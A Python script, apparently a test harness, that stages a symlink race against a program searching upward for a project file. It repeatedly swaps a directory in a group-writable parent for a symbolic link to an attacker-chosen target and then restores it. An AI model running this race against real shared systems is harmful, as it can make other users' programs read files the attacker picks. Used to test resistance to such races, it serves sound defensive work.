#!/usr/bin/env python3
"""A racing attacker for the project file's search: swaps a directory on the path for a link and back.

    relinker.py PARENT NAME TARGET SECONDS

As another user who may rename entries in PARENT (a member of its group, PARENT being 2775) would,
it loops: renames the directory PARENT/NAME away to PARENT/.relink.NAME, puts its own symbolic
link to the directory TARGET under NAME, removes it and renames the directory back. A program
that walks up the name of a working directory below PARENT/NAME (the name getcwd gave while the
directory was in place) and opens what it found by name can be handed TARGET's files while the
link is there. Prints 'ready' before the first round and, on SIGTERM or after
SECONDS, 'rounds N' for the N rounds it made (the directory is always put back), then ends.
"""
import os
import signal
import sys
import time

stop = False

def ended(_signum, _frame):
    global stop
    stop = True

def main():
    parent, name, target, seconds = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4])
    signal.signal(signal.SIGTERM, ended)
    entry = os.path.join(parent, name)
    away = os.path.join(parent, ".relink." + name)
    rounds = 0
    print("ready", flush=True)
    deadline = time.monotonic() + seconds
    while not stop and time.monotonic() < deadline:
        os.rename(entry, away)
        try:
            os.symlink(target, entry)
            os.unlink(entry)
        finally:
            os.rename(away, entry)
        rounds += 1
    print("rounds %d" % rounds, flush=True)

if __name__ == "__main__":
    main()
